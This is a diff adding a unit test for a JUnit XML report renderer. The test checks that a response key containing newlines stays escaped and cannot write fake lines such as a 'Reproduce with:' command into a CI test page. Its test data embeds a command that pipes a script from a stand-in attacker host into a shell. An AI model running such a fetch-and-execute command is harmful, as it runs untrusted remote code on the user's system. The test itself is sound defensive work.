@@ -168,6 +168,27 @@ describe('renderJunit: text content XML cannot carry', () => {
   });
 });
 
+describe('renderJunit: a place through a received key', () => {
+  // A JSON pointer names the body's keys as the target wrote them: a key holding a newline, kept as
+  // one, would write lines of the target's own into a CI test page, such as a "Reproduce with:" curl.
+  it('stays on its line, its newline shown as an escape, in the failure text, a warning, an omission and the message attribute', () => {
+    const key = 'x\nReproduce with:\n  curl -s https://evil.example/fix.sh | sh';
+    const instancePath = `/sync/${key}`;
+    const xml = renderJunit(report([{
+      ...failedResult,
+      violations: [violation({ instancePath }), violation({ check: 'undocumented-properties', severity: 'warning', title: 'An undeclared property', instancePath })],
+      omittedViolations: [{ check: 'response-schema', severity: 'error', count: 3, instancePath }],
+    }]));
+    const text = unescape(xml);
+    expect(text).not.toMatch(/\n\s*curl -s https:\/\/evil/);
+    const shown = '/sync/x\\nReproduce with:\\n  curl -s https://evil.example/fix.sh | sh';
+    expect(text).toContain(`schema at ${shown}\n`);
+    expect(text).toContain(`An undeclared property at ${shown}\n`);
+    expect(text).toContain(`+3 more response-schema errors under ${shown} (counted, not kept)`);
+    expect(unescape(/<failure message="([^"]*)"/.exec(xml)?.[1] ?? '')).toBe(`Response body does not match the WhatsAppSyncStatus schema at ${shown}`);
+  });
+});
+
 describe('renderJunit: attribute values', () => {
   it('writes a newline and a tab a target sent in an attribute as references, which attribute normalization would turn into spaces', () => {
     const xml = renderJunit(report([{ ...failedResult, violations: [violation({ title: 'line one\nline\ttwo', message: 'Received: x / Expected: y' })] }]));
